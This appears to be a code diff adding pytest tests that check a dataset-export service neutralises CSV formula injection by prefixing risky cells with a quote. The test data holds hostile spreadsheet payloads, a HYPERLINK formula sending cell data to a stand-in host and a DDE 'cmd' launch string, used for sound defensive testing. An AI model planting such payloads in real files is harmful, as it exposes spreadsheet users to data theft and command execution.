@@ -12,6 +12,7 @@ import pytest
 from fastapi import FastAPI
 
 from service.datasets import service
+from service.datasets.formats import neutralised
 from service.datasets.schemas import ExportFormat, ExportRequest
 from service.storage.database import unit_of_work
 from tests.asgi_client import AppClient
@@ -191,3 +192,40 @@ def test_an_unknown_model_is_404(client: AppClient) -> None:
     response = client.get("/v1/models/nobody/export", params=WINDOW)
     assert response.status_code == 404
     assert "nobody" in response.json()["detail"]
+
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"details")'
+
+
+def test_csv_cells_that_would_start_a_formula_are_text(client: AppClient) -> None:
+    assert client.post("/v1/models", json=registration()).status_code == 201
+    hostile = features(6) | {
+        "cat_0": HYPERLINK,
+        "cat_1": "@SUM(A1:A9)",
+        "cat_2": "+cmd|' /C calc'!A0",
+        "cat_3": "-1",
+        "num_00": -3.5,
+    }
+    record = prediction(6, features=hostile, attributes={"sex": "-2+3", "age_band": "25-44"})
+    assert (
+        client.post(URL.replace("export", "predictions"), json={"predictions": [record]}).status_code == 200
+    )
+    assert client.post("/v1/models/credit/outcomes", json={"outcomes": [outcome(6)]}).status_code == 200
+    _, (row,) = csv_rows(client.get(URL, params=WINDOW | {"format": "csv"}))
+    assert row["feature.cat_0"] == "'" + HYPERLINK
+    assert row["feature.cat_1"] == "'@SUM(A1:A9)"
+    assert row["feature.cat_2"] == "'+cmd|' /C calc'!A0"
+    assert row["attribute.sex"] == "'-2+3"
+    # Numbers stay numbers: a negative float and a category that is a signed number.
+    assert (row["feature.num_00"], row["feature.cat_3"]) == ("-3.5", "-1")
+    # NDJSON is not read by spreadsheets: values come back exactly as sent.
+    (line,) = ndjson(client.get(URL, params=WINDOW))
+    assert line["features"]["cat_0"] == HYPERLINK
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [("\tx", "'\tx"), ("\rx", "'\rx"), ("=1+1", "'=1+1"), ("+3e-2", "+3e-2"), ("-.5", "-.5"), (-7, -7)],
+)
+def test_neutralised_prefixes_formula_starts_only(cell: object, written: object) -> None:
+    assert neutralised(cell) == written
